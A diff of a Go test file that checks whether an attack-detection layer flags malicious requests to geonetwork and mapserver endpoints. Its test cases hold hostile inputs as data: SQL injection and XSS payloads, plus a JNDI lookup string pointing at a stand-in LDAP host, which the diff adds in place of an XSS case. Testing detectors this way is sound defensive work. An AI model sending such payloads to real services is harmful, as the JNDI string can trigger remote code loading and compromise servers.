@@ -93,7 +93,7 @@ func TestProfilesFindAttacks(t *testing.T) {
 		{"geonetwork", "SQL in a text of CQL", q("constraint", "a = '"+strings.ReplaceAll(sqli, "'", "''")+"'"), true},
 		{"geonetwork", "an expression in a question", testRequest("/a", "application/json", `{"query":{"query_string":{"query":"any:${jndi:ldap://x.example/a}"}}}`), true},
 		{"geonetwork", "SQL in metadata", doc(`<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd"><gmd:abstract>` + escape(sqli) + `</gmd:abstract></gmd:MD_Metadata>`), true},
-		{"geonetwork", "a script in an attribute", doc(`<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd" a="` + escape(xss) + `"/>`), true},
+		{"geonetwork", "an expression in an attribute", doc(`<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd" a="${jndi:ldap://x.example/a}"/>`), true},
 		{"mapserver", "a filter", q("FILTER", "("+filter("1")+")("+filter("2")+")"), false},
 		{"mapserver", "a script as a filter", q("FILTER", "<Filter>"+xss+"</Filter>"), true},
 		{"mapserver", "a script as a layer", q("LAYERS", xss), true},
